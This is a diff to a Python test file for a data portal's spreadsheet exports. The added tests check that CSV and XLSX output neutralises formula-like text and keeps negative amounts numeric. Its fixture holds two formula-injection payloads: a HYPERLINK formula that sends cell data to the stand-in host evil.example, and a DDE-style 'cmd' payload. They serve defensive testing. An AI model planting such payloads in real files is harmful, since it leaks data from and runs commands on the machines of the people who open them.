@@ -217,7 +217,8 @@ def test_spreadsheet_never_turns_text_into_a_formula(client):
         ("?country=XX&lang=en", "(country): “XX” is not a known value"),
         ("?year=1800&lang=en", "(year): “1800” is not a known value"),
         ("?sort=random&lang=en", "Sort order (sort): “random” is not known"),
-        ("?q=water%00&lang=en", "Search words (q): control characters are not allowed."),
+        # Refused before the filters are read (opencoop.operations.middleware), saying where.
+        ("?q=water%00&lang=en", "(a NUL byte or a byte that is not UTF-8) in its parameter “q”"),
         # In the language asked, else in the default language.
         ("?country=XX", "Filtro “Paese” (country): “XX” non è un valore conosciuto."),
         ("?lang=fr", "Lingua “fr” (lang): non è una lingua del portale"),
@@ -229,3 +230,59 @@ def test_bad_filters_are_refused_saying_what_and_where(client, query, message):
     assert message in response.content.decode()
     errors = json.loads(client.get(JSON_URL + query).content)["errors"]
     assert any(message in error for error in errors)
+
+
+# Spreadsheet formulas ------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+FORMULA_TEXTS = {
+    "title": HYPERLINK,
+    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture
+def formula_activity(reporting_org):
+    from datetime import date
+    from decimal import Decimal
+
+    from opencoop.activities.models import Transaction
+
+    activity = make_activity(
+        reporting_org,
+        "FORMULA",
+        title={"en": FORMULA_TEXTS["title"], "it": "+1+1"},
+        description={"en": FORMULA_TEXTS["description"], "it": "-2+3"},
+    )
+    # A decommitment: a negative amount written by the portal, a number and not a text.
+    Transaction.objects.create(
+        activity=activity, type="2", date=date(2024, 3, 1), value=Decimal("-30000")
+    )
+    return activity
+
+
+def test_csv_text_cells_a_spreadsheet_would_run_are_neutralised(client, formula_activity):
+    [english] = csv_rows(client, "?q=FORMULA&lang=en")
+    assert english["title"] == "'" + HYPERLINK
+    assert english["description"] == "'" + FORMULA_TEXTS["description"]
+    [italian] = csv_rows(client, "?q=FORMULA&lang=it")
+    assert (italian["title"], italian["description"]) == ("'+1+1", "'-2+3")
+    for row in (english, italian):
+        for key, value in row.items():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), (key, value)
+
+
+def test_csv_numbers_stay_numbers_even_when_negative(client, formula_activity):
+    [row] = csv_rows(client, "?q=FORMULA&lang=en")
+    assert row["commitments"] == "-30000.00"
+
+
+def test_xlsx_keeps_a_formula_like_title_as_a_text_cell(client, formula_activity):
+    response = client.get(XLSX_URL + "?q=FORMULA&lang=en")
+    book = load_workbook(io.BytesIO(body(response)))  # not read-only: cells keep their type
+    sheet = book.worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    title = sheet.cell(row=2, column=header.index("title") + 1)
+    assert (title.value, title.data_type) == (HYPERLINK, "s")
+    commitments = sheet.cell(row=2, column=header.index("commitments") + 1)
+    assert (commitments.value, commitments.data_type) == (-30000, "n")
